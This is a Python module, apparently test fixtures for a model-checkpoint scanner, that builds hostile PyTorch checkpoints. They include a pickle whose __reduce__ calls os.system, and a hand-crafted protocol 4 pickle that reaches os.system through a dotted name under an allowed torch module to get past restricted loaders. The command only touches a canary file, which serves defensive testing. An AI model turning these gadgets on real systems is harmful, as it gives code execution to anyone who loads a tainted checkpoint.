"""Parts of attacks. Each attack makes a hostile checkpoint from a good one; code that runs creates the canary file."""

import os
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch

COMMAND = 'touch "$ATTNKIT_CANARY"'
Attack = Callable[[dict[str, Any], Path], None]


class Attacks(dict[str, Attack]):
    """Attacks by name; as a decorator, adds one."""

    def __call__(self, attack: Attack) -> Attack:
        self[attack.__name__] = attack
        return attack


class Evil:
    def __reduce__(self) -> Any:
        return os.system, (COMMAND,)


def archive(path: Path, data: bytes, *, compress: bool = False, entries: dict[str, bytes] | None = None) -> None:
    """Write an archive of torch with this pickle."""
    kind = zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED
    with zipfile.ZipFile(path, "w", kind) as file:
        for name, content in {"data.pkl": data, "byteorder": b"little", "version": b"3\n", **(entries or {})}.items():
            file.writestr(f"archive/{name}", content)


def changed(good: dict[str, Any], path: Path, **parts: Any) -> None:
    torch.save({**good, **parts}, path)


def with_trainer(good: dict[str, Any], path: Path, *, name: str | None = None, data: Any = None, **trainer: Any) -> None:
    state = good["callbacks"]["attnkit_recipe"]
    state = state | {"trainer": state["trainer"] | trainer, "name": name or state["name"], "data": data or state["data"]}
    changed(good, path, callbacks=good["callbacks"] | {"attnkit_recipe": state})


def with_stack(good: dict[str, Any], path: Path, **arguments: Any) -> None:
    parameters = good["hyper_parameters"]
    changed(good, path, hyper_parameters=parameters | {"stack": parameters["stack"] | arguments})


def dotted() -> bytes:
    """A pickle of protocol 4 that reaches `os.system` from an allowed module by a name with a dot."""
    module, name = b"torch.distributed.checkpoint.filesystem", b"os.system"
    strings = b"".join(b"\x8c" + bytes([len(s)]) + s for s in (module, name))
    return b"\x80\x04" + strings + b"\x93\x8c" + bytes([len(COMMAND)]) + COMMAND.encode() + b"\x85R."
